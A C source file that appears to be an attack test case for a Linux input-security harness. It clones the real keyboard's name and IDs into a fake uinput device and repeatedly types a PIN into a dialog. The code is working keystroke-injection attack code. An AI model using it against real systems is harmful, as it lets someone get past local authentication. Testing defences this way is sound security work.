// SPDX-License-Identifier: Apache-2.0
/*
 * Makes a keyboard with name and ids of the real one before the dialog is there and
 * types a PIN into it.
 *
 * attack: uinput_keyboard
 * class: input
 * when: before
 * judge: decided
 * quick: yes
 * defence: module
 * why: a made-up keyboard has no place in the topology the policy lists
 */
#include <linux/input.h>
#include <string.h>

#include "evdev.h"
#include "report.h"
#include "uinput.h"

#define PIN "24681357"

static void type(int fd)
{
	const char *c;

	for (c = PIN; *c; c++)
		uinput_press(fd, evdev_key(*c));
	attack_wait(1500);
	uinput_press(fd, KEY_ENTER);
}

int main(void)
{
	char name[80] = "keyboard";
	struct input_id id = { .bustype = BUS_I8042 };
	int fd;

	attack_init();
	uinput_copy_real(name, sizeof(name), &id);
	fd = uinput_keyboard(name, &id);
	attack_ready();
	if (fd < 0)
		attack_failed("no keyboard can be made: %s", strerror(-fd));
	while (!attack_wait(1000))
		type(fd);
	attack_done();
}
